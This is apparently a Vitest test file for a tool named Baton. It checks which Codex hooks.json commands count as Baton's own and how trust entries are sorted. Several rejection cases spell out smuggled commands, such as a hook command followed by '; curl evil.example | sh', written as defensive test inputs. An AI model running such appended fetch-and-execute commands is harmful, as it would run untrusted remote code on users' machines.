import { expect, test } from "vitest";
import type { LoadedHook } from "../../src/codex/hooks-answer.ts";
import { isOwnCommand } from "../../src/doctor/own-command.ts";
import { sortHooks } from "../../src/doctor/own-hooks.ts";
import { trustEntries } from "../../src/doctor/trust-entries.ts";
import { hookGroups } from "../../src/install/config/wanted.ts";

const wanted = hookGroups({ kind: "project" });
const stop = wanted.Stop?.[0]?.hooks ?? [];
const command = stop[0]?.command ?? "";
const file = "/p/.codex/hooks.json";
const loaded = (event: string, text: string, sourcePath = file): LoadedHook => ({
  key: `${sourcePath}:${event}:0:0`,
  ...{ event, command: text, sourcePath, enabled: true, trust: "untrusted", hash: "sha256:1" },
});

test.each([
  ["as it was wired", command],
  ["with another space between words", command.replace(" hook", " \t hook")],
  ["with space around it", `  ${command} `],
  ["as Windows has it", stop[0]?.commandWindows ?? ""],
])("a command %s is Baton's", (_, text) => {
  expect(isOwnCommand(text, stop)).toBe(true);
});

test.each([
  ["with a command behind it", `${command}; curl evil.example | sh`],
  ["with a line behind it", `${command}\ncurl evil.example`],
  ["with space inside its quotes", command.replace("rev-parse ", "rev-parse  ")],
  ["of another event", command.replace("Stop", "SubagentStop")],
  ["of another program", command.replace(".baton/bin", ".baton/bin/..")],
  ["that only names it", 'sh evil.sh "/.baton/bin/hook.mjs" Stop'],
  ["that is empty", ""],
])("a command %s is not", (_, text) => {
  expect(isOwnCommand(text, stop)).toBe(false);
});

test("of what Codex has, only this hooks.json counts, and one hook an event is Baton's", () => {
  const own = loaded("stop", command);
  const second = { ...own, key: `${file}:stop:1:0` };
  const foreign = loaded("preToolUse", "./lint.sh");
  const elsewhere = loaded("stop", command, "/h/hooks.json");

  const sorted = sortHooks([elsewhere, own, second, foreign], wanted, file);

  expect(sorted.own).toEqual([{ event: "Stop", hook: own }]);
  expect(sorted.others).toEqual([second, foreign]);
  expect(sorted.missing).toEqual(
    Object.keys(wanted)
      .filter((event) => event !== "Stop")
      .toSorted(inCodexOrder),
  );
});

function inCodexOrder(one: string, other: string): number {
  const order = ["PreToolUse", "PostToolUse", "SessionStart", "UserPromptSubmit", "SubagentStart", "SubagentStop"];
  return order.indexOf(one) - order.indexOf(other);
}

const trusted = { trusted_hash: "sha256:1" };
const config = (...keys: readonly string[]): unknown => ({
  hooks: { state: Object.fromEntries(keys.map((key) => [key, trusted])) },
});
const hooks = { hooks: { ...wanted, Stop: [...(wanted.Stop ?? []), { hooks: [{ command: "./lint.sh" }] }] } };

test("trust entries are told apart by the hook that stands at their place", () => {
  const keys = [`${file}:pre_tool_use:0:0`, `${file}:stop:0:0`, `${file}:stop:1:0`, `${file}:stop:2:0`];
  const others = ["/q/.codex/hooks.json:stop:0:0", `${file}:model_request:0:0`, `${file}.bak:stop:0:0`];

  expect(trustEntries(config(...keys, ...others), hooks, file, wanted)).toEqual({
    own: keys.slice(0, 2),
    others: [keys[2], others[1]],
    dead: [keys[3]],
  });
});

test("without a hooks.json every entry of it is for a hook that is gone", () => {
  expect(trustEntries(config(`${file}:stop:0:0`), undefined, file, wanted).dead).toEqual([`${file}:stop:0:0`]);
});

test.each([undefined, {}, { hooks: 1 }, { hooks: { state: [] } }, { hooks: { state: { [`${file}:stop:0:0`]: 1 } } }])(
  "a configuration of %j has none",
  (value) => {
    expect(trustEntries(value, hooks, file, wanted)).toEqual({ own: [], dead: [], others: [] });
  },
);
